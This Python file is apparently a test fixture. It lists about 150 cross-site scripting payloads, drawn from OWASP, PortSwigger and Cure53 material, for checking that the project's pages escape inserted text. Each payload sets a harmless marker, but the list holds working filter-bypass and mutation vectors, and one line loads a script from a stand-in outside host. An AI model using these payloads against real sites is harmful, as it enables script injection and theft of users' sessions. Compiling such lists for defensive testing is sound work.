"""What people write who want a page to run their script: 150 texts, each of which sets __xss.

From the sources that testers use: OWASP's and PortSwigger's cheat sheets, the mutation tricks of
Cure53, and what breaks out of the places where our own pages put a text: an element, a quoted
attribute, a JSON block, a template, an address and a style.
"""

# Kept short so that a name of 100 characters can hold most of them.
RUN = "window.__xss=1"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script>/*\n*/{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script type=module>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f'<script src="data:text/javascript,{RUN}"></script>',
    f"<script src=//example.com/xss.js?{RUN}></script>",
    f"<script>eval('{RUN}')</script>",
    f"<script>setTimeout('{RUN}')</script>",
    f"<script>Function('{RUN}')()</script>",
    f"<script>top['__xss']=1;{RUN}</script>",
    f"<script>alert(1);{RUN}</script>",
    f"<script>{RUN};confirm(1);prompt(1)</script>",
    "<script>window['__x'+'ss']=1</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<script charset=utf-7>+ADw-{RUN}</script>",
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x:x onerror\t=\n{RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x oNeRrOr={RUN}//",
    f"<img src onerror=eval('{RUN}')>",
    f"<img srcset=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.__xss=1;{RUN}</script>'></iframe>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data=x onerror={RUN}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='data:text/html,<script>{RUN}</script>'>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<style onload={RUN}></style>",
    f"<div tabindex=0 autofocus onfocus={RUN}>x</div>",
    f"<div onpointerover={RUN}>x</div>",
    f"<p onmouseover={RUN} style=position:fixed;inset:0>x</p>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x>",
]

SVG = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>window&#46;__xss=1</script></svg><i>{RUN}</i>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={RUN} attributeName=x></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><image href=x onerror={RUN}></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
]

ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href=java&#115;cript:{RUN}>x</a>",
    f"<a href='&#14; javascript:{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href='javascript:{RUN}//'>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
]

ATTRIBUTES = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` autofocus onfocus={RUN} x=`",
    f'" onerror="{RUN}" src="x',
    f'nl" onclick="{RUN}" tabindex="1',
    f"&quot; autofocus onfocus={RUN} x=&quot;",
    f'\\" autofocus onfocus={RUN} x="',
    f'"/><svg/onload={RUN}>',
    f"></option></select><script>{RUN}</script>",
    f"></title><script>{RUN}</script>",
    f"</blockquote><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</time></bdi></li></ul><img src=x onerror={RUN}>",
    f"</td></tr></table><script>{RUN}</script>",
    f"</main></body></html><script>{RUN}</script>",
]

DATA_BLOCKS = [
    f"</script><script>{RUN}</script>",
    f"</ScRiPt ><script>{RUN}</script>",
    f'"}}</script><script>{RUN}</script>',
    f"<!--<script>{RUN}</script>-->",
    f"<!--><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"--!><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f'";{RUN};//',
    f"';{RUN};//",
    f"`;{RUN};//",
    f"\\';{RUN};//",
    f"\u2028{RUN}\u2029",
    f'{{"__proto__":{{"x":"{RUN}"}}}}',
    f"<script type=application/json></script><script>{RUN}</script>",
]

TEMPLATES = [
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% debug %}}<script>{RUN}</script>",
    f"{{{{ request|safe }}}}<script>{RUN}</script>",
    f"{{# x #}}<script>{RUN}</script>",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"[[{RUN}]]",
    f"%(x)s<script>{RUN}</script>",
    f"{{0.__class__}}<script>{RUN}</script>",
    f"|safe<script>{RUN}</script>",
]

TRICKS = [
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u02c2script\u02c3{RUN}",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"<script>\u202e{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}",
    f"\\x3cscript\\x3e{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<img src=x onerror=\u2028{RUN}>",
]

MUTATIONS = [
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noscript><style></noscript><img src=x onerror={RUN}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<p style='x:`</p><img src=x onerror={RUN}>`'>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<xmp><img alt='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<template><script>{RUN}</script></template><svg onload={RUN}>",
]

PAYLOADS = [
    *ELEMENTS,
    *HANDLERS,
    *SVG,
    *ADDRESSES,
    *ATTRIBUTES,
    *DATA_BLOCKS,
    *TEMPLATES,
    *TRICKS,
    *MUTATIONS,
]
